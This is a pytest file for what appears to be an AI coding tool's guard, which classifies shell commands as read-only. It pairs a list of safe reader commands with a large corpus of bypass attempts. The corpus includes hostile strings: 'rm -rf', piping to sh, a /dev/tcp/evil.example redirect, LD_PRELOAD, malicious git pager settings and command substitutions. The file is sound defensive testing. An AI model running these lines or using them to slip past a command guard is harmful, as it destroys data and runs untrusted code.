"""Read-only commands run without a question (contract section 20): the classifier
(`guard/shellparse/readers.py`) is attacked here with a generated corpus. Every reader line
below is read-only; the same line with one option that writes or runs, a writing
redirection, a substitution, a wrapper, an assignment or a program of the workspace's own
put into it must never be.

The oracle is the manuals, written out here by hand (not taken from the table it tests)."""

from __future__ import annotations

import shlex

import pytest

from coder_ls.guard.shellparse import parse
from coder_ls.guard.shellparse.readers import is_read_only, not_read_only

READERS = [
    "ls",
    "ls -la src",
    "pwd",
    "cat README.md",
    "head -n 20 app.py",
    "tail -5 app.py",
    "wc -l app.py",
    "grep -rn TODO src",
    "grep -e -x -- app.py",
    "rg -n foo src",
    "rg --files",
    "find . -name '*.py'",
    "find src -type f -newer app.py -print0",
    "git status",
    "git status --short --branch",
    "git diff",
    "git diff --stat HEAD~1",
    "git log --oneline -5",
    "git show HEAD",
    "git blame app.py",
    "git rev-parse --show-toplevel",
    "git ls-files",
    "git describe --tags",
    "git remote -v",
    "git branch",
    "git branch -a -vv",
    "git branch --list 'feat*'",
    "git tag -l",
    "git stash list",
    "git config --get user.name",
    "git --no-pager log -1",
    "git -C src status",
    "echo hello",
    "printf '%s\\n' a b",
    "which python3",
    "type ls",
    "file app.py",
    "stat app.py",
    "du -sh .",
    "df -h",
    "tree -L 2",
    "sort -u names.txt",
    "sort -t, -k2 data.csv",
    "uniq -c names.txt",
    "cut -d: -f1 /etc/passwd",
    "diff a.txt b.txt",
    "cmp a.bin b.bin",
    "jq .name package.json",
    "realpath app.py",
    "dirname src/app.py",
    "basename src/app.py",
    "date +%s",
    "date -Iseconds",
    "uname -a",
    "whoami",
    "id",
    "env",
    "printenv PATH",
    "true",
    "test -f app.py",
    "cat a | grep x",
    "cd src && ls",
    "ls 2>/dev/null",
    "ls >&2",
    "ls 2>&1 | head",
    "ls &>/dev/null",
    "grep x < app.py",
    "cat <<'EOF'\nhello\nEOF",
    "command -v git",
    "/usr/bin/ls -la",
]


@pytest.mark.parametrize("line", READERS)
def test_a_reader_line_is_read_only(line: str) -> None:
    assert not_read_only(parse(line, cwd="/ws")) is None, line


# (reader line, words put into it: each at every place after the program)
OPTIONS: list[tuple[str, list[list[str]]]] = [
    (
        "find . -name x",
        [[w] for w in ("-exec", "-execdir", "-ok", "-okdir", "-delete", "-fls", "-fprint", "-fprint0", "-fprintf")]
        + [
            ["-exec", "rm", "{}", ";"],
            ["-fprint", "out"],
            ["-fprintf", "out", "%p"],
            ["-execdir", "sh", "-c", "x", "+"],
        ],
    ),
    (
        "rg foo src",
        [
            ["--pre", "./evil"],
            ["--pre=./evil"],
            ["--pre-glob=*"],
            ["-z"],
            ["-iz"],
            ["--search-zip"],
            ["--hostname-bin=./evil"],
        ],
    ),
    (
        "sort names.txt",
        [
            ["-o", "out"],
            ["-oout"],
            ["-uo", "out"],
            ["--output=out"],
            ["--output", "out"],
            ["--out=out"],
            ["--o=out"],
            ["--compress-program=./evil"],
            ["--compress=./evil"],
        ],
    ),
    ("tree -L 2", [["-o", "out"], ["-R"], ["-aR"], ["-ao", "out"], ["--output=out"]]),
    ("file app.py", [["-C"], ["--compile"], ["-zC"]]),
    ("date -u", [["-s", "2020-01-01"], ["--set=2020-01-01"], ["--se=2020"], ["-us", "x"]]),
    ("git log --oneline", [["--output=out"], ["--output", "out"], ["--outp=out"], ["--ext-diff"]]),
    ("git diff HEAD", [["--output=out"], ["--ext-diff"], ["--ext"], ["--open-files-in-pager=./evil"]]),
    ("git show HEAD", [["--output=out"], ["--ext-diff"]]),
]
GIT_GLOBAL = [
    ["-c", "core.pager=sh -c 'touch p'"],
    ["-c", "core.fsmonitor=./evil"],
    ["--config-env=core.pager=X"],
    ["--exec-path=./evil"],
    ["--git-dir=/tmp/evil"],
    ["--work-tree=/"],
    ["-p"],
    ["--paginate"],
]
GIT_WRITES = [
    "git branch new",
    "git branch -d old",
    "git branch -D old",
    "git branch -m a b",
    "git branch -M a b",
    "git branch -c a b",
    "git branch -f main HEAD~1",
    "git branch -u origin/main",
    "git branch --set-upstream-to=origin/x",
    "git branch --delete old",
    "git branch --del old",
    "git branch -vd old",
    "git tag v1",
    "git tag -a v1 -m x",
    "git tag -d v1",
    "git tag -f v1",
    "git tag -s v1",
    "git tag --delete v1",
    "git stash",
    "git stash push",
    "git stash pop",
    "git stash drop",
    "git stash clear",
    "git config user.name evil",
    "git config --add core.pager x",
    "git config --unset user.name",
    "git config -e",
    "git config --edit",
    "git config --get x --add a b",
    "git config --replace-all a b",
    "git remote add x https://e",
    "git remote set-url origin https://e",
    "git commit -m x",
    "git add .",
    "git checkout -b x",
    "git push",
    "git st",
    "git",
    "git --version",
]
AROUND = [
    "{} > out",
    "{} >> out",
    "{} &> out",
    "{} >| out",
    "{} 2> out",
    "{} 1>out",
    "{} <> out",
    "{} > /dev/null > out",
    "{} >&out",
    "{} > $OUT",
    "{} < /dev/tcp/evil.example/80",
    "{} | sh",
    "{} | tee out",
    "{} ; touch p",
    "{} && rm -rf x",
    "{} || cp a b",
    "{} $(touch p)",
    "{} `touch p`",
    "{} <(rm -rf x)",
    "{} >(tee out)",
    "X=1 {}",
    "LD_PRELOAD=/tmp/x.so {}",
    "GIT_PAGER=./evil {}",
    "env X=1 {}",
    "sudo {}",
    "timeout 5 {}",
    "xargs {}",
    "nohup {}",
    "(f() {{ rm -rf x; }}; {})",
    "f() {{ touch p; }}; {}",
    "alias ls='rm -rf x'; {}",
    "eval '{}'",
    "sh -c '{}'",
    "{} $UNKNOWN",
    "{} &\nrm x",
]
BASES = ["ls -la", "cat a", "grep -r x .", "git status", "find . -name '*.py'", "echo hi", "wc -l a", "jq . a"]


def _put(base: str, words: list[str]) -> list[str]:
    program, *args = shlex.split(base)
    out = []
    for i in range(len(args) + 1):
        out.append(shlex.join([program, *args[:i], *words, *args[i:]]))
    return out


def attack_lines() -> list[str]:
    lines = [line for base, inserts in OPTIONS for words in inserts for line in _put(base, words)]
    lines += [line for g in GIT_GLOBAL for line in (shlex.join(["git", *g, "log"]), shlex.join(["git", *g, "status"]))]
    lines += GIT_WRITES
    lines += [shape.format(base) for shape in AROUND for base in BASES]
    lines += [f"{prefix}{base}" for prefix in ("./", "bin/", "~/bin/", "/tmp/") for base in BASES]
    lines += ["uniq names.txt out.txt", "uniq -c a b", "command ls", "env ls", "env -S 'rm x'", "date -s x"]
    # a substitution's output is a word nobody saw: it may be an option (`<(…)` never is,
    # but the parser does not tell them apart, so `diff <(ls a) <(ls b)` asks too)
    lines += ["rg $(echo --pre=./evil) x", "sort $(printf -- -o) out a", "find . $(echo -delete)", "diff <(ls) <(ls)"]
    # the issue's hidden writers
    lines += [
        "ls > f",
        "find . -fprint f",
        "git -c core.pager='sh -c \"touch p\"' log",
        "rg --pre ./evil x",
        "cat <(rm -rf x)",
        "ls $(touch pwned)",
    ]
    return lines


ATTACKS = attack_lines()


def test_the_corpus_is_large_and_every_line_parses() -> None:
    assert len(ATTACKS) > 500
    unparsed = [line for line in ATTACKS if not parse(line, cwd="/ws").parsed]
    assert len(unparsed) < len(ATTACKS) // 50, unparsed  # a few shapes do not parse: also never readers


def test_no_attack_line_is_read_only() -> None:
    read_only = [line for line in ATTACKS if is_read_only(parse(line, cwd="/ws"))]
    assert read_only == []


@pytest.mark.parametrize(
    "line",
    ["ls > f", "find . -fprint f", "git -c core.pager='sh -c x' log", "rg --pre ./evil x", "cat <(rm -rf x)"],
)
def test_the_issues_hidden_writers_say_why(line: str) -> None:
    why = not_read_only(parse(line, cwd="/ws"))
    assert why is not None and why != "", line
